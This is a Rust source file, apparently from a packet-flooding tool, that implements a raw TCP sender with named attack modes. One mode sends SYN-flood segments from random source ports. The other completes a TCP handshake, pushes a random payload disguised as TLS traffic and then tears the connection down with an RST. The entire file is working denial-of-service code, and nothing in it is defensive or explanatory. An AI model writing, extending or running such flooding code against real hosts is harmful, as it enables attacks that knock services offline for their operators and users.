use std::{
    io,
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
    time::Duration,
};

use async_trait::async_trait;
use bytes::Bytes;
use rand::{Rng, SeedableRng, rngs::StdRng};

use super::{AttackMode, PacketSender, RawTransport, Sent, SourcePort};
use crate::{
    error::SendError,
    recorder::Protocol,
    target::TargetEndpoint,
    wire::{
        self, IPPROTO_TCP, Ipv4Header, TLS_MIMIC_HEADER_LEN, TcpFlags, TcpHeader,
        build_tcp_packet, parse_tcp_packet,
    },
};

pub const DEFAULT_HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(1);

const EPHEMERAL_PORTS: std::ops::RangeInclusive<u16> = 32768..=60999;

/// Raw TCP sender. Builds every segment itself and owns one raw transport
/// for its whole lifetime.
///
/// In [`AttackMode::LazyMimicTls`] the host kernel has no socket for the flow
/// and answers the SYN-ACK with its own RST unless outbound resets are filtered.
pub struct TcpSender<T> {
    transport: T,
    src: Ipv4Addr,
    mode: AttackMode,
    source_port: SourcePort,
    handshake_timeout: Duration,
    rng: StdRng,
    recv_buf: Vec<u8>,
}

impl<T: RawTransport> TcpSender<T> {
    pub fn new(transport: T, src: Ipv4Addr, mode: AttackMode) -> Self {
        Self {
            transport,
            src,
            mode,
            source_port: SourcePort::Random,
            handshake_timeout: DEFAULT_HANDSHAKE_TIMEOUT,
            rng: StdRng::from_entropy(),
            recv_buf: vec![0u8; u16::MAX as usize],
        }
    }

    pub fn with_source_port(mut self, source_port: SourcePort) -> Self {
        self.source_port = source_port;
        self
    }

    pub fn with_handshake_timeout(mut self, timeout: Duration) -> Self {
        self.handshake_timeout = timeout;
        self
    }

    pub fn with_seed(mut self, seed: u64) -> Self {
        self.rng = StdRng::seed_from_u64(seed);
        self
    }

    pub fn transport(&self) -> &T {
        &self.transport
    }

    fn pick_source_port(&mut self, target: &TargetEndpoint) -> u16 {
        match self.source_port {
            SourcePort::Match => target.port,
            SourcePort::Random => self.rng.gen_range(EPHEMERAL_PORTS),
        }
    }

    fn segment(
        &mut self,
        target: &TargetEndpoint,
        tcp: TcpHeader,
        payload: &[u8],
    ) -> Result<Bytes, SendError> {
        let ip = Ipv4Header::new(self.src, target.address, IPPROTO_TCP, self.rng.gen());
        build_tcp_packet(&ip, &tcp, payload).map_err(|e| SendError::Invariant(e.to_string()))
    }

    async fn transmit(&mut self, packet: &[u8], dst: Ipv4Addr) -> Result<usize, SendError> {
        self.transport
            .send_to(packet, dst)
            .await
            .map_err(SendError::from_send_io)
    }

    async fn syn_flood(&mut self, target: TargetEndpoint, sport: u16) -> Result<usize, SendError> {
        let seq = self.rng.gen();
        let syn = self.segment(&target, TcpHeader::new(sport, target.port, seq, 0, TcpFlags::SYN), &[])?;
        self.transmit(&syn, target.address).await
    }

    async fn lazy_mimic_tls(
        &mut self,
        target: TargetEndpoint,
        sport: u16,
        payload_len: usize,
    ) -> Result<usize, SendError> {
        let isn: u32 = self.rng.gen();
        let syn = self.segment(&target, TcpHeader::new(sport, target.port, isn, 0, TcpFlags::SYN), &[])?;
        let mut bytes = self.transmit(&syn, target.address).await?;

        let timeout = self.handshake_timeout;
        let server_seq = tokio::time::timeout(timeout, self.await_syn_ack(&target, sport, isn))
            .await
            .map_err(|_| SendError::Timeout(timeout))??;

        let seq = isn.wrapping_add(1);
        let ack = server_seq.wrapping_add(1);
        let ack_segment =
            self.segment(&target, TcpHeader::new(sport, target.port, seq, ack, TcpFlags::ACK), &[])?;
        bytes += self.transmit(&ack_segment, target.address).await?;

        let body_len = payload_len
            .saturating_sub(TLS_MIMIC_HEADER_LEN)
            .min(u16::MAX as usize) as u16;
        let payload = wire::mimic_tls_payload(body_len, &mut self.rng);
        let data = self.segment(
            &target,
            TcpHeader::new(sport, target.port, seq, ack, TcpFlags::PSH | TcpFlags::ACK),
            &payload,
        )?;
        bytes += self.transmit(&data, target.address).await?;

        let rst_seq = seq.wrapping_add(payload.len() as u32);
        let rst = self.segment(
            &target,
            TcpHeader::new(sport, target.port, rst_seq, ack, TcpFlags::RST | TcpFlags::ACK),
            &[],
        )?;
        bytes += self.transmit(&rst, target.address).await?;
        Ok(bytes)
    }

    /// Wait for the SYN-ACK answering our SYN and return the peer's sequence number.
    async fn await_syn_ack(
        &mut self,
        target: &TargetEndpoint,
        sport: u16,
        isn: u32,
    ) -> Result<u32, SendError> {
        loop {
            let n = self
                .transport
                .recv(&mut self.recv_buf)
                .await
                .map_err(SendError::Transient)?;
            let Some(segment) = parse_tcp_packet(&self.recv_buf[..n]) else {
                continue;
            };
            if segment.src != target.address
                || segment.src_port != target.port
                || segment.dst_port != sport
            {
                continue;
            }
            if segment.flags.contains(TcpFlags::RST) {
                return Err(SendError::Transient(io::ErrorKind::ConnectionRefused.into()));
            }
            if segment.flags.contains(TcpFlags::SYN | TcpFlags::ACK)
                && segment.ack == isn.wrapping_add(1)
            {
                return Ok(segment.seq);
            }
        }
    }
}

#[async_trait]
impl<T: RawTransport> PacketSender for TcpSender<T> {
    fn protocol(&self) -> Protocol {
        Protocol::Tcp
    }

    async fn send(&mut self, target: TargetEndpoint, payload_len: usize) -> Result<Sent, SendError> {
        let sport = self.pick_source_port(&target);
        let bytes = match self.mode {
            AttackMode::Syn => self.syn_flood(target, sport).await?,
            AttackMode::LazyMimicTls => self.lazy_mimic_tls(target, sport, payload_len).await?,
        };
        Ok(Sent {
            src: Some(SocketAddr::V4(SocketAddrV4::new(self.src, sport))),
            bytes,
        })
    }
}
